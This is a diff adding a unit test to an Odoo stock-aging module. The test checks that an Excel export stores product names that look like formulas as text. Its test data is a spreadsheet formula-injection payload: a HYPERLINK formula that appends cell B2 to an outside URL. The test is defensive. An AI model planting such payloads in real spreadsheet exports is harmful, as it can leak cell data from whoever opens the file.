@@ -1,3 +1,7 @@
+import base64
+import io
+
+import openpyxl
 from odoo.exceptions import UserError
 from odoo.tests import new_test_user, tagged
 
@@ -96,6 +100,26 @@ class TestAging(LifecycleCommon):
         self.assertIn("/web/content/", action["url"])
         self.assertTrue(wizard.file_data)
         self.assertTrue(wizard.file_name.endswith(".xlsx"))
+
+    def test_export_writes_formula_like_names_as_text(self):
+        evil = '=HYPERLINK("http://x"&B2,"y")'
+        self.fast.name = evil
+        self.run_aging()
+        rows = self.Report.sudo().search(
+            [("company_id", "=", self.company.id), ("product_id", "=", self.fast.id)]
+        )
+        self.assertTrue(rows)
+        wizard = self.env["stock.aging.export"].create({})
+        wizard._export(rows)
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        hits = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+        self.assertTrue(hits)
+        for cell in cells:
+            self.assertNotEqual(cell.data_type, "f", f"{cell.coordinate}: {cell.value}")
+        for cell in hits:
+            self.assertEqual(cell.data_type, "s")
+            self.assertIn(evil, cell.value)
 
     def test_other_company_does_not_see_the_aging(self):
         self.run_aging()
